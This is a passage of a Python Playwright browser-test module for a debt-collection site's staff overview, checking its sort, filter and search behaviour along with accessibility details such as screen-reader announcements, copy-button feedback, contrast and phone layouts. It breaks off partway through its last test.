"""The overview's sort and filter script in a real browser (Debian's chromium through Playwright)."""

from __future__ import annotations

import contextlib
import hashlib
import json
import shutil
from datetime import date

import pytest

from incasso.bank.books import read_books
from incasso.claims.assess import assess
from incasso.ledger.model import Language
from incasso.staff import words_en
from incasso.staff.language import speaking
from incasso.staff.paging import Limits
from incasso.staff.search_index import _END, _START, SEARCH_INDEX, _js_string, read_index
from incasso.staff.view import staff_book
from incasso.staff.words import UI
from pelican.plugins.incasso.staff import staff_environment, write_overview
from tests.support.contrast import text_contrast
from tests.support.ledgers import disputed_apart_ledger
from tests.support.site import REPO, build_site, hold_page_time, serving, wait_until
from tests.support.staff_fixture import BUILT_ORDER, FIXTURE
from tests.support.staff_fixture import D1 as AS_OF

pytestmark = pytest.mark.browser

# staff.js: a search's count is said once typing pauses this long (ms); a copy's success is shown this long.
PAUSE_HEARD, SUCCESS_SHOWN = 500, 4000
TYPING = 200  # ms between two keys of someone typing on


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    built = build_site(tmp_path_factory.mktemp("staff-browser"), ledger=FIXTURE / "ledger", as_of=AS_OF)
    assert built.exit_code == 0
    return built


def _opened(browser, site, held: bool = False):
    context = browser.new_context(viewport={"width": 1366, "height": 900})
    page = context.new_page()
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    if held:
        hold_page_time(page)
    page.goto((site.internal / "index.html").as_uri())
    yield page
    context.close()
    assert errors == []


@pytest.fixture
def overview(browser, site):
    yield from _opened(browser, site)


@pytest.fixture
def held_overview(browser, site):
    """The overview at its own time, held from before it loads: every timer it sets runs only as the test moves
    its clock on. Held once loaded, the timer its first count set while loading (an empty one, said half a second
    later) ran in real time, and a held clock cannot clear a timer of the real one: it emptied what was said."""
    yield from _opened(browser, site, held=True)


def table_ids(page) -> list[str]:
    """The dossiers in the page's own claims table, as built."""
    return page.eval_on_selector_all("#claims tr.claim", "rows => rows.map(r => r.dataset.id)")


def found_ids(page) -> list[str]:
    """The dossiers the search shows (none while it is not in use)."""
    wait_for_search(page)
    return page.eval_on_selector_all(
        "#found:not([hidden]) #found-table tr.claim", "rows => rows.map(r => r.dataset.id)"
    )


def found_groups(page) -> list[str]:
    return page.eval_on_selector_all("#found-table tr.group", "rows => rows.map(r => r.dataset.group)")


def wait_for_search(page) -> None:
    """The first search loads the search index: wait until what it found is drawn."""
    page.wait_for_function(
        "() => { const c = document.getElementById('claims-count');"
        " return c.textContent === '' || c.textContent.includes(' ' + c.dataset.of + ' '); }"
    )


def column_values(page, column: int) -> list[str]:
    wait_for_search(page)
    return page.eval_on_selector_all("#found-table tr.claim", f"rows => rows.map(r => r.cells[{column}].dataset.value)")


def header(page, name: str, table: str = "#found-table"):
    return page.locator(f"{table} thead th", has_text=name)


def test_built_order_with_the_search_shown(overview):
    assert table_ids(overview) == BUILT_ORDER
    assert overview.locator("#finder").is_visible()
    assert not overview.locator("#found").is_visible()
    assert overview.locator("#claims-count").inner_text() == ""
    assert not overview.locator("#claims-reset").is_visible()


def test_sort_by_amount_largest_first_then_smallest(overview):
    # Before any sort, a screen reader hears that a column head sorts: that sentence, not the search's hint.
    described = overview.locator("#claims thead button").evaluate_all(
        "bs => bs.map(b => document.getElementById(b.getAttribute('aria-describedby')).textContent)"
    )
    assert described == [UI["sort_hint"]] * 7
    header(overview, "Openstaand", "#claims").locator("button").click()  # the page's own table: every dossier
    amounts = [float(v) for v in column_values(overview, 2)]
    assert amounts == sorted(amounts, reverse=True) and len(amounts) == 17
    assert found_ids(overview)[0] == "O-LEGAL"
    assert found_groups(overview) == []  # one flat list while sorted
    assert not overview.locator("#claims").is_visible()  # the search's results stand in for the page
    assert header(overview, "Openstaand").get_attribute("aria-sort") == "descending"
    said = "document.getElementById('claims-said').textContent"
    wait_until(overview, f"{said} === '17 van 17 gevonden, gesorteerd op Openstaand, aflopend'")
    header(overview, "Openstaand").locator("button").click()
    amounts = [float(v) for v in column_values(overview, 2)]
    assert amounts == sorted(amounts)
    assert header(overview, "Openstaand").get_attribute("aria-sort") == "ascending"
    # The count is the same: what a screen reader hears says the order turned round.
    wait_until(overview, f"{said} === '17 van 17 gevonden, gesorteerd op Openstaand, oplopend'")


def test_back_from_a_dossier_opened_from_the_results_keeps_the_search_and_its_order(overview):
    # The clerk searches, sorts, opens a dossier and goes back: the box stood empty (autocomplete is off, so the
    # browser does not restore it) and the results were gone; only the stage came back.
    overview.fill("#claims-filter", "e")
    header(overview, "Openstaand").locator("button").click()
    before = found_ids(overview)
    assert len(before) > 1
    overview.locator(f"#found-table tr[data-id='{before[0]}'] th a").click()
    overview.wait_for_load_state()
    assert "/d/" in overview.url
    overview.go_back()
    overview.wait_for_load_state()
    assert overview.input_value("#claims-filter") == "e"
    assert found_ids(overview) == before
    assert header(overview, "Openstaand").get_attribute("aria-sort") == "descending"
    overview.locator("#claims-reset").click()  # let go, and a later visit starts with the overview
    overview.reload()
    assert overview.input_value("#claims-filter") == "" and found_ids(overview) == []


def test_sort_by_name_and_back_to_the_stages(overview):
    header(overview, "Debiteur", "#claims").locator("button").click()
    names = column_values(overview, 0)
    assert names == sorted(names)
    assert found_ids(overview)[:3] == ["A-OPEN", "B-OVER", "C-SILENT"]
    overview.locator("#claims-reset").click()
    assert found_ids(overview) == []
    assert overview.evaluate("document.activeElement.id") == "claims-filter"  # not lost as the button hides
    assert overview.locator("#claims").is_visible() and table_ids(overview) == BUILT_ORDER
    assert header(overview, "Debiteur").get_attribute("aria-sort") is None


def test_escape_after_sorting_brings_the_stages_back_wherever_the_focus_is(overview):
    overview.locator("#claims-filter").fill("b")
    sorter = header(overview, "Openstaand").locator("button")
    sorter.click()  # the focus now on a column head of the results
    assert found_ids(overview) and not overview.locator("#claims").is_visible()
    sorter.press("Escape")
    assert found_ids(overview) == []
    assert overview.locator("#claims").is_visible() and table_ids(overview) == BUILT_ORDER
    assert overview.locator("#claims-filter").input_value() == ""
    assert overview.evaluate("document.activeElement.id") == "claims-filter"
    assert header(overview, "Openstaand").get_attribute("aria-sort") is None


def test_sorting_from_the_stages_table_keeps_the_focus_on_that_column(overview):
    """The stages' table hides while the results show: the keyboard stays on the column just sorted."""
    header(overview, "Openstaand", "#claims").locator("button").press("Enter")
    assert found_ids(overview) and not overview.locator("#claims").is_visible()
    focused = overview.evaluate("[document.activeElement.closest('table').id, document.activeElement.innerText]")
    assert focused == ["found-table", "Openstaand"]
    overview.keyboard.press("Enter")  # the same button again: the other way round
    assert header(overview, "Openstaand").get_attribute("aria-sort") == "ascending"


def test_escape_on_the_stage_list_brings_the_stages_back(overview):
    stage = overview.locator("#claims-stage")
    stage.select_option("legal")
    assert found_ids(overview) and not overview.locator("#claims").is_visible()
    stage.focus()
    stage.press("Escape")
    assert stage.input_value() == "" and found_ids(overview) == []
    assert overview.locator("#claims").is_visible()
    assert overview.evaluate("document.activeElement.id") == "claims-filter"


def test_sort_by_status_as_the_badges_read(overview):
    header(overview, "Status", "#claims").locator("button").click()
    # Sorting the whole list loads the search index first: slow on a busy machine, so wait for its rows.
    overview.wait_for_function("() => document.querySelectorAll('#found-table tr.claim').length > 0")
    shown = overview.eval_on_selector_all("#found-table tr.claim", "rows => rows.map(r => r.cells[1].innerText)")
    assert len(shown) == 17 and shown == sorted(shown, key=str.casefold)
    assert shown[0].startswith("Afgeschreven") and shown[-1] == "Loopt"


def test_sort_by_next_step_puts_claims_without_one_last(overview):
    header(overview, "Volgende stap", "#claims").locator("button").click()
    ids = found_ids(overview)
    assert ids[:2] == ["C-SILENT", "M-FINAL-DUE"]  # due since 2 April, 18 April
    assert set(ids[-4:]) == {"N-HANDOVER", "O-LEGAL", "P-PAID", "Q-OFF"}


def test_text_filter_by_name_contact_or_invoice(overview):
    search = overview.locator("#claims-filter")
    search.fill("jansen")
    assert found_ids(overview) == ["J-PLAN-OK"]
    assert found_groups(overview) == ["dunning"]
    assert overview.locator("#claims-count").inner_text() == "1 van 17 gevonden"
    search.fill("ff-2")  # an invoice number
    assert found_ids(overview) == ["M-FINAL-DUE"]
    search.fill("B.V. sanne")  # every word must match: no row names Sanne
    assert found_ids(overview) == []
    # The debtors that are one, and after them N-HANDOVER, by its agency, Incassobureau Test B.V.: it says so.
    search.fill("b.v.")
    assert found_ids(overview) == ["O-LEGAL", "H-CALL", "G-DISPUTE", "D-REM-BIG", "N-HANDOVER"]
    matched = overview.locator("#found-table tr.claim[data-id='N-HANDOVER'] .matched")
    assert matched.inner_text() == "Gevonden in: incassobureau of deurwaarder"
    search.press("Escape")
    assert found_ids(overview) == [] and table_ids(overview) == BUILT_ORDER
    assert overview.locator("#claims").is_visible()


def test_stage_filter_and_text_filter_together(overview):
    overview.locator("#claims-stage").select_option("dunning")
    assert found_ids(overview) == ["K-PLAN-LATE", "H-CALL", "I-PROMISE", "J-PLAN-OK"]
    assert found_groups(overview) == ["dunning"]
    overview.locator("#claims-filter").fill("kees")
    assert found_ids(overview) == ["K-PLAN-LATE"]
    overview.locator("#claims-filter").fill("")
    overview.locator("#claims-stage").select_option("paid")
    assert found_ids(overview) == ["P-PAID"]


def test_filter_holds_while_sorting(overview):
    overview.locator("#claims-stage").select_option("reminder")
    header(overview, "Openstaand").locator("button").click()
    assert found_ids(overview) == ["D-REM-BIG", "E-REM-SMALL", "G-DISPUTE", "F-BROKEN"]


def test_the_results_are_drawn_as_the_table_draws_its_rows(overview):
    overview.locator("#claims-filter").fill("hoek")
    assert found_ids(overview) == ["H-CALL"]
    drawn = overview.locator("#found-table tr.claim[data-id='H-CALL']")
    built = overview.locator("#claims tr.claim[data-id='H-CALL']")
    # Each cell's text, and every element in it with its class: the same markup but for white space.
    cells = """row => Array.from(row.cells).map(c => [c.className, c.textContent.replace(/\\s+/g, ' ').trim(),
        Array.from(c.querySelectorAll('*')).map(e => e.tagName + '.' + e.className + ':' + e.textContent.trim())])"""
    assert drawn.evaluate(cells) == built.evaluate(cells)
    assert drawn.evaluate("row => row.className") == built.evaluate("row => row.className")
    assert drawn.locator("a").get_attribute("href") == built.locator("a").get_attribute("href") == "d/H-CALL.html"


@pytest.mark.parametrize(("column", "none"), [("Volgende stap", "9999-12-31"), ("Laatste contact", "")])
def test_the_days_the_results_sort_by_are_the_table_s(overview, column, none):
    """The index holds a row's next step and last contact once, as shown and as an ISO day together: every row
    drawn shows the days the built table shows (a time's datetime), sorts by them (its cell's value), and the
    rows follow them, a dossier without a next step last, one never contacted first."""
    header(overview, column, "#claims").locator("button").click()
    overview.wait_for_function("() => document.querySelectorAll('#found-table tr.claim').length === 17")
    at = 4 if none else 5
    days = f"""rows => Object.fromEntries(rows.map(r => [r.dataset.id,
        Array.from(r.cells[{at}].querySelectorAll('time')).map(t => t.getAttribute('datetime'))]))"""
    drawn = overview.eval_on_selector_all("#found-table tr.claim", days)
    assert drawn == overview.eval_on_selector_all("#claims tr.claim", days)
    sorted_by = column_values(overview, at)
    assert sorted_by == [shown[0] if shown else none for shown in drawn.values()]
    assert sorted_by == sorted(sorted_by) and len(set(sorted_by)) > 5 and none in sorted_by


def test_a_row_with_invoices_disputed_apart_is_drawn_as_the_table_draws_it(browser, tmp_path):
    """What of its invoices a dispute holds apart, under the amount: the same in the row the search draws."""
    built = build_site(tmp_path, ledger=disputed_apart_ledger(tmp_path), as_of=date(2026, 2, 24))
    assert built.exit_code == 0
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.goto((built.internal / "index.html").as_uri())
    page.locator("#claims-filter").fill("bakkerij")
    assert found_ids(page) == ["D-1001"]
    drawn, built_row = page.locator("#found-table tr.claim"), page.locator("#claims tr.claim")
    cells = """row => Array.from(row.cells).map(c => [c.className, c.textContent.replace(/\\s+/g, ' ').trim(),
        Array.from(c.querySelectorAll('*')).map(e => e.tagName + '.' + e.className + ':' + e.textContent.trim())])"""
    assert drawn.evaluate(cells) == built_row.evaluate(cells)
    assert drawn.locator(".disputed-apart").text_content() == "daarnaast EUR\xa01.180,00 betwist"
    # Compact: in smaller type, and free to wrap within the amount's column rather than widen it (the amount
    # above keeps to one line).
    style = drawn.locator(".disputed-apart").evaluate(
        "e => [getComputedStyle(e).whiteSpace, parseFloat(getComputedStyle(e).fontSize) < "
        "parseFloat(getComputedStyle(e.parentNode).fontSize)]"
    )
    assert style == ["normal", True]
    context.close()


def test_each_row_is_headed_by_its_debtor_and_each_stage_has_a_body_of_its_own(overview):
    # A screen reader says whose row a cell is in, and a stage's heading covers its own rows only.
    heads = """table => Array.from(table.tBodies).map(body => [
        Array.from(body.querySelectorAll('th[scope=rowgroup]')).length,
        Array.from(body.querySelectorAll('tr.claim')).every(r => r.cells[0].tagName === 'TH'
            && r.cells[0].scope === 'row' && r.cells[0].textContent.includes(r.dataset.id))])"""
    built = overview.locator("#claims").evaluate(heads)
    assert len(built) == 9 and all(groups == 1 and headed for groups, headed in built)
    overview.locator("#claims-filter").fill("b")
    found_ids(overview)
    drawn = overview.locator("#found-table").evaluate(heads)
    assert len(drawn) > 1 and all(groups == 1 and headed for groups, headed in drawn)
    # The row's head keeps the paused bar and the closed grey the first cell had.
    paused = overview.locator("#claims tr.claim.paused").first.evaluate("r => getComputedStyle(r.cells[0]).boxShadow")
    assert paused != "none"
    closed = overview.locator("#claims tr.claim.closed").first
    assert closed.evaluate("r => getComputedStyle(r.cells[0]).color") == closed.evaluate(
        "r => getComputedStyle(r.cells[1]).color"
    )
    for table in ("table.tasks", "table.letters", "table.signals"):
        rows = overview.locator(f"{table} tbody tr")
        assert rows.count() and rows.evaluate_all("rows => rows.every(r => r.querySelector('th[scope=row] a'))")


def test_a_screen_reader_hears_the_count_once_typing_pauses(held_overview):
    # The page's time stands still from before it loads, its timers with it: the keys come TYPING ms of its time
    # apart, however long a browser on a loaded machine takes between two in real time (longer than the pause the
    # region waits for, and the count was said at that key).
    overview = held_overview
    said = overview.locator("#claims-said")
    search = overview.locator("#claims-filter")
    search.focus()  # loads the search index first: then each key draws what it found
    wait_until(overview, "'incassoSearch' in window && window.incassoSearch === undefined")  # loaded, and read
    overview.evaluate(
        "window.heard = []; new MutationObserver(() => heard.push(document.getElementById('claims-said')"
        ".textContent)).observe(document.getElementById('claims-said'),"
        " {childList: true, subtree: true, characterData: true})"
    )
    for key in "jans":  # a key each TYPING ms of the page's time: typing, not pausing
        search.type(key)
        overview.clock.run_for(TYPING)
    assert overview.locator("#claims-count").get_attribute("aria-hidden") == "true"
    found_ids(overview)
    assert overview.evaluate("window.heard") == []  # nothing said while typing
    overview.clock.run_for(PAUSE_HEARD - TYPING)  # typing pauses
    wait_until(overview, "window.heard.length > 0")
    overview.clock.run_for(2 * PAUSE_HEARD)  # and stays paused: nothing more comes, nor is it taken back
    assert overview.evaluate("window.heard") == ["1 van 17 gevonden"]  # once, not at every key
    assert said.inner_text() == "1 van 17 gevonden" == overview.locator("#claims-count").inner_text()


def test_a_search_that_finds_nothing_says_so_instead_of_an_empty_table(overview):
    overview.locator("#claims-filter").fill("zzzz")
    wait_until(overview, "!document.getElementById('found-none').hidden")
    assert overview.locator("#found-none").inner_text() == "Geen dossiers gevonden voor ‘zzzz’."
    assert not overview.locator("#found-table").is_visible()
    overview.locator("#claims-filter").fill("jans")
    assert found_ids(overview) and overview.locator("#found-table").is_visible()
    assert not overview.locator("#found-none").is_visible()


@pytest.fixture(scope="module")
def collecting(tmp_path_factory):
    from tests.site.test_collecting_account_build import collecting_site

    return collecting_site(tmp_path_factory.mktemp("collecting-browser"))


@pytest.mark.parametrize("typed", ["NL22 INGB 0000 0000 02", "nl22ingb0000000002", "INGB 0000000002"])
def test_a_search_by_an_account_that_paid_for_many_says_what_it_is_instead_of_listing_them(browser, collecting, typed):
    """A debt counsellor's account paid for D-1 to D-4 (staff.candidates.COLLECTING_ACCOUNT): typed, it listed
    every client; now the search says what the account is, and how to find whose a payment is."""
    page = browser.new_page(viewport={"width": 390, "height": 800})
    page.goto((collecting.internal / "index.html").as_uri())
    page.locator("#claims-filter").fill(typed)
    wait_until(page, "!document.getElementById('found-account').hidden")
    assert found_ids(page) == []
    assert page.locator("#found-account").inner_text() == (
        "Rekening NL22INGB0000000002 betaalde voor 4 dossiers (schuldhulpverlening, bewindvoerder, betaaldienst of "
        "familie). De zoekopdracht toont ze niet: deze rekening zegt niet voor wie een betaling is. Zoek op de naam "
        "of het kenmerk in de omschrijving van de betaling."
    )
    assert not page.locator("#found-none").is_visible()  # the sentence says why nothing is listed
    page.locator("#claims-filter").fill("D-2")  # another search: the sentence goes
    assert found_ids(page) == ["D-2"] and not page.locator("#found-account").is_visible()
    page.close()


def test_on_a_phone_the_ageing_chart_leaves_its_figures_to_the_table(browser, site):
    context = browser.new_context(viewport={"width": 320, "height": 800})
    page = context.new_page()
    page.goto((site.internal / "index.html").as_uri())
    assert not page.locator("figure.chart").is_visible() and page.locator("table.ageing-table").count() == 1
    context.close()
    wide = browser.new_context(viewport={"width": 1366, "height": 900})
    page = wide.new_page()
    page.goto((site.internal / "index.html").as_uri())
    assert page.locator("figure.chart").is_visible()
    wide.close()


@pytest.mark.parametrize("scheme", ["dark", "light"])
def test_in_high_contrast_the_chart_s_words_are_readable_and_its_legend_keeps_the_bars_colours(browser, site, scheme):
    context = browser.new_context(viewport={"width": 1366, "height": 900})
    page = context.new_page()
    page.emulate_media(forced_colors="active", color_scheme=scheme)
    page.goto((site.internal / "index.html").as_uri())
    style = "([s, p]) => getComputedStyle(document.querySelector(s))[p]"
    canvas = page.evaluate(style, ["body", "backgroundColor"])
    # The labels and amounts in the system's text colour (as the page's body text), not dark ink on a dark canvas.
    for text in (".chart .label", ".chart .value"):
        assert page.evaluate(style, [text, "fill"]) == page.evaluate(style, ["body", "color"]) != canvas
    # A legend's swatch has the colour of its stage's bars, not the canvas.
    for stage in page.eval_on_selector_all(".chart figcaption .swatch", "s => s.map(e => e.classList[1])"):
        swatch = page.evaluate(style, [f".chart figcaption .{stage}", "backgroundColor"])
        assert swatch == page.evaluate(style, [f".chart rect.{stage}", "fill"]) != canvas, stage
    context.close()


def test_a_dossier_fits_a_phone_and_its_wide_tables_scroll_in_their_own_box(browser, site):
    context = browser.new_context(viewport={"width": 320, "height": 800})
    page = context.new_page()
    for dossier in ("A-OPEN", "J-PLAN-OK", "H-CALL"):
        page.goto((site.internal / "d" / f"{dossier}.html").as_uri())
        assert page.evaluate("document.documentElement.scrollWidth") <= 320, dossier
        boxes = page.locator(".table-scroll")
        assert boxes.count() >= 1  # the invoices at least
        # Each a named region; a keyboard stop only while it scrolls (sideways at 320 px, here).
        assert boxes.evaluate_all("bs => bs.every(b => b.getAttribute('aria-label'))")
        assert boxes.evaluate_all(
            "bs => bs.every(b => (b.scrollWidth > b.clientWidth) === (b.getAttribute('tabindex') === '0'))"
        )
    names = page.locator("button.copy").evaluate_all("bs => bs.map(b => b.getAttribute('aria-label'))")
    assert len(set(names)) == len(names) and all(name.startswith("Kopiëren") for name in names)
    context.close()


# WCAG 1.4.12: what a reader's own style sheet may set.
TEXT_SPACING = "* { line-height: 1.5 !important; letter-spacing: 0.12em !important; word-spacing: 0.16em !important; }"
SCROLLING = "() => [...document.querySelectorAll('.table-scroll')].filter(b => b.scrollWidth > b.clientWidth)"
FOCUSABLE_WHILE_SCROLLING = """() => [...document.querySelectorAll('.table-scroll')]
  .every(b => (b.scrollWidth > b.clientWidth) === (b.getAttribute('tabindex') === '0'))"""


def test_a_table_the_reader_s_text_spacing_makes_scroll_takes_the_keyboard_s_focus(browser, demo_site):
    # The boxes were looked at when the window changed size only: with wider spacing in a window of 1280 px
    # today's work scrolled by its last column, which no key could reach (WCAG 2.1.1).
    context = browser.new_context(viewport={"width": 1280, "height": 900}, bypass_csp=True)  # the reader's style
    page = context.new_page()
    try:
        page.goto((demo_site.internal / "index.html").as_uri())
        before = page.evaluate(f"({SCROLLING})().length")
        page.add_style_tag(content=TEXT_SPACING)
        wait_until(page, f"({SCROLLING})().length > {before}")
        wait_until(page, f"({FOCUSABLE_WHILE_SCROLLING})()")
    finally:
        context.close()


def test_without_javascript_the_table_is_complete_and_ordered(browser, site):
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto((site.internal / "index.html").as_uri())
    assert table_ids(page) == BUILT_ORDER  # eval runs in the page's isolated world, not its scripts
    assert page.locator("#claims tr.group").count() == 9
    assert not page.locator("#finder").is_visible()
    assert page.locator("#claims thead button").count() == 0
    assert page.locator("tr.task").count() == 9
    context.close()


def test_copy_the_personal_link(browser, site):
    context = browser.new_context()
    page = context.new_page()
    hold_page_time(page)  # a success is shown for SUCCESS_SHOWN: read at the page's time, not in a window of ours
    page.goto((site.internal / "d" / "A-OPEN.html").as_uri())
    button = page.locator("button.copy")
    assert button.is_visible() and button.inner_text() == "Kopiëren"
    button.focus()
    page.keyboard.press("Enter")
    # The focus stays on the button, and what became of the copy is shown and heard under it (a moment
    # later: the status is emptied first, so that a second copy is heard again); the button keeps its name.
    wait_until(page, "document.getElementById('personal-link-status').textContent !== ''", page_ms=10)
    assert page.evaluate("document.activeElement.className") == "copy"
    said = page.locator("#personal-link-status")
    assert said.is_visible() and said.inner_text() in ("Gekopieerd", UI["copy_failed_link"])
    assert button.get_attribute("aria-label") == "Kopiëren: de persoonlijke link"
    assert button.inner_text() == "Kopiëren"
    link = page.locator("#personal-link").input_value()
    assert link.startswith("s/") and (site.output / link / "index.html").is_file()
    context.close()


# A browser that copies nothing: no clipboard API, and the old way refused.
NO_CLIPBOARD = (
    "Object.defineProperty(navigator, 'clipboard', {value: undefined});"
    " document.execCommand = function () { return false; };"
)


def test_a_failed_copy_says_what_to_select_and_stays_until_the_next_copy(browser, site):
    context = browser.new_context()
    context.add_init_script(NO_CLIPBOARD)
    page = context.new_page()
    hold_page_time(page)  # from before it loads: every timer of the page runs at its own time (`held_overview`)
    page.goto((site.internal / "d" / "B-OVER.html").as_uri())
    record = page.locator("button.copy[data-copy='record-step']")
    record.focus()
    page.keyboard.press("Enter")
    said = page.locator("#record-step-status")
    wait_until(page, "document.getElementById('record-step-status').textContent !== ''", page_ms=10)
    assert said.inner_text() == "Kopiëren lukte niet: selecteer de regels en kopieer ze zelf"
    assert record.get_attribute("aria-label") == "Kopiëren: de regels voor het dossier"
    assert record.inner_text() == "Kopiëren"
    page.clock.run_for(SUCCESS_SHOWN + 500)  # longer than a success is shown, in the page's time
    assert said.is_visible() and said.inner_text().startswith("Kopiëren lukte niet")
    page.locator("button.copy[data-copy='personal-link']").click()  # the next copy: the old news goes
    wait_until(page, "document.getElementById('personal-link-status').textContent !== ''", page_ms=10)
    assert said.inner_text() == ""
    assert page.locator("#personal-link-status").inner_text() == UI["copy_failed_link"]
    context.close()


def test_a_letter_s_links_are_named_by_the_letter_and_the_debtor(overview):
    # In a screen reader's list of links: not "PDF, E-mail, PDF, PDF", but which letter, to whom.
    links = overview.locator("table.tasks a.letter-pdf, table.tasks a.letter-eml, table.letters a[class^=letter-]")
    names = links.evaluate_all("ls => ls.map(l => l.textContent)")
    assert names and all(n.startswith(("PDF (", "E-mail (.eml-bestand, ")) for n in names), names
    tasks = overview.locator("table.tasks a.letter-pdf, table.tasks a.letter-eml").evaluate_all(
        "ls => ls.map(l => l.textContent)"
    )
    assert len(set(tasks)) == len(tasks)
    row = overview.locator("table.tasks tr[data-id='F-BROKEN']")
    letter = row.locator("a.letter-eml")
    assert letter.evaluate("a => a.firstChild.textContent") == "E-mail"  # seen as before; the name says the rest
    name = "E-mail (.eml-bestand, Aanmaning, Fenna Beloofd)"
    assert row.get_by_role("link", name=name, exact=True).count() == 1


def test_the_contact_links_of_a_task_are_targets_24px_apart(browser, site):
    context = browser.new_context()
    page = context.new_page()
    page.goto((site.internal / "index.html").as_uri())
    gaps = page.evaluate(
        """() => [...document.querySelectorAll('.contact')].filter(c => c.querySelectorAll('a').length > 1)
           .map(c => { const [a, b] = [...c.querySelectorAll('a')].map(x => x.getBoundingClientRect());
                       return (b.top + b.height / 2) - (a.top + a.height / 2); })"""
    )
    context.close()
    assert gaps and min(gaps) >= 24, gaps  # WCAG 2.5.8: centres 24 px apart


# -- the search, at the top of the demo's overview ---------------------------------------------------------


@pytest.fixture
def demo_overview(browser, demo_site):
    yield from _demo_opened(browser, demo_site)


@pytest.fixture
def held_demo_overview(browser, demo_site):
    """The demo's overview at its own time, held from before it loads (as `held_overview`)."""
    yield from _demo_opened(browser, demo_site, held=True)


def _demo_opened(browser, demo_site, held: bool = False):
    context = browser.new_context(viewport={"width": 1366, "height": 900})
    page = context.new_page()
    problems, requests = [], []
    page.on("console", lambda m: problems.append(m.text) if m.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("request", lambda request: requests.append(request.url))
    if held:
        hold_page_time(page)
    page.goto((demo_site.internal / "index.html").as_uri())
    page.wait_for_load_state("load")
    requests.clear()
    yield page
    context.close()
    assert problems == []  # the strict Content-Security-Policy blocks nothing the page needs
    # Searching reads the search index beside the page, once, by the digest of tonight's, and nothing else: what is
    # typed goes nowhere.
    assert requests in ([], [_versioned_uri(demo_site.internal, SEARCH_INDEX)])


def _versioned(internal, name: str) -> str:
    """`name` as the staff pages name it: with the digest of the file the build wrote there."""
    return f"{name}?v={hashlib.sha256((internal / name).read_bytes()).hexdigest()[:12]}"


def _versioned_uri(internal, name: str) -> str:
    """The file URL of `name` as the staff pages name it (a Path would take its "?" for part of the name)."""
    return internal.as_uri() + "/" + _versioned(internal, name)


def _index_requested(requests: list[str]) -> list[str]:
    return [url for url in requests if SEARCH_INDEX in url]


def test_the_index_is_read_as_the_box_takes_the_focus_not_as_the_page_loads(held_demo_overview, demo_site):
    page = held_demo_overview
    page.clock.run_for(2000)
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    # A page opened to look at reads no index, however long it stays open.
    assert page.evaluate("window.incassoSearch === undefined") and requested == []
    page.keyboard.press("Tab")  # the skip link
    page.keyboard.press("Tab")  # the brand
    page.locator("#claims-filter").focus()  # as Tab reaches it: before the first key
    wait_until(page, "document.querySelectorAll('script[src*=\"search-index\"]').length === 1")
    assert page.locator("script[src*='search-index']").get_attribute("src") == _versioned(
        demo_site.internal, SEARCH_INDEX
    )
    page.keyboard.type("de wit")
    assert found_ids(page) == ["D-1006"]


def test_the_index_is_read_once_the_pointer_rests_on_the_box_not_as_it_passes(held_demo_overview):
    page = held_demo_overview
    box = page.locator("#claims-filter")
    wait = "document.querySelectorAll('script[src*=\"search-index\"]').length"
    box.hover()
    page.clock.run_for(100)
    page.mouse.move(0, 0)  # passed over it: nothing read
    page.clock.run_for(1000)
    assert page.evaluate(wait) == 0
    box.hover()
    page.clock.run_for(200)  # rested on it: read before it is clicked
    assert page.evaluate(wait) == 1
    assert page.evaluate("document.activeElement.id") != "claims-filter"


# What else the index is read for, as it is about to be used: a column head of the overview's own table, the stage.
ABOUT_TO_SORT_OR_FILTER = {"sort": "#claims thead th[data-key] button", "stage": "#claims-stage"}


@pytest.mark.parametrize("control", ABOUT_TO_SORT_OR_FILTER)
def test_the_index_is_read_as_a_sort_or_the_stage_is_pressed_before_the_click(held_demo_overview, control):
    page = held_demo_overview
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.locator(ABOUT_TO_SORT_OR_FILTER[control]).first.hover()  # the page's clock held: it has not rested yet
    with page.expect_request(lambda request: SEARCH_INDEX in request.url, timeout=5000):
        page.mouse.down()  # pressed, not yet let go: no click, so neither a sort nor a stage has been asked
    assert len(_index_requested(requested)) == 1
    assert page.evaluate("document.body.classList.contains('searching')") is False


@pytest.mark.parametrize("control", ABOUT_TO_SORT_OR_FILTER)
def test_the_index_is_read_once_the_pointer_rests_on_a_sort_or_the_stage_not_as_it_passes(held_demo_overview, control):
    page = held_demo_overview
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    target = page.locator(ABOUT_TO_SORT_OR_FILTER[control]).first
    wait = "document.querySelectorAll('script[src*=\"search-index\"]').length"
    target.hover()
    page.clock.run_for(100)
    page.mouse.move(0, 0)  # passed over it: nothing read
    page.clock.run_for(1000)
    assert page.evaluate(wait) == 0 and _index_requested(requested) == []
    target.hover()
    with page.expect_request(lambda request: SEARCH_INDEX in request.url, timeout=5000):
        page.clock.run_for(200)  # rested on it: read before it is clicked
    assert len(_index_requested(requested)) == 1
    assert page.evaluate("document.body.classList.contains('searching')") is False


@pytest.mark.parametrize("control", ABOUT_TO_SORT_OR_FILTER)
def test_a_finger_on_a_sort_or_the_stage_reads_no_index_until_it_taps(held_demo_overview, control):
    """A swipe that starts on a column head scrolls the table: on a phone's data it reads none of the index (28 MB at
    100,000 dossiers), however long the finger rests; a mouse's press on the same control does."""
    page = held_demo_overview
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    target = page.locator(ABOUT_TO_SORT_OR_FILTER[control]).first
    for kind in ("pointerenter", "pointerdown"):
        target.dispatch_event(kind, {"pointerType": "touch", "isPrimary": True})
    page.clock.run_for(1000)
    target.dispatch_event("pointerleave", {"pointerType": "touch", "isPrimary": True})
    assert page.evaluate("document.querySelectorAll('script[src*=\"search-index\"]').length") == 0
    assert _index_requested(requested) == []
    with page.expect_request(lambda request: SEARCH_INDEX in request.url, timeout=5000):
        target.dispatch_event("pointerdown", {"pointerType": "mouse", "isPrimary": True})


@pytest.mark.parametrize("path", ["index.html", "changes.html", "d/D-1006.html"])
@pytest.mark.parametrize("served", [False, True], ids=["from files", "over http"])
def test_the_staff_pages_name_their_files_by_their_content(browser, demo_site, path, served):
    internal = demo_site.internal
    with serving(internal) if served else contextlib.nullcontext(internal.as_uri()) as address:
        context = browser.new_context(viewport={"width": 1366, "height": 900})
        page = context.new_page()
        problems, requests = [], []
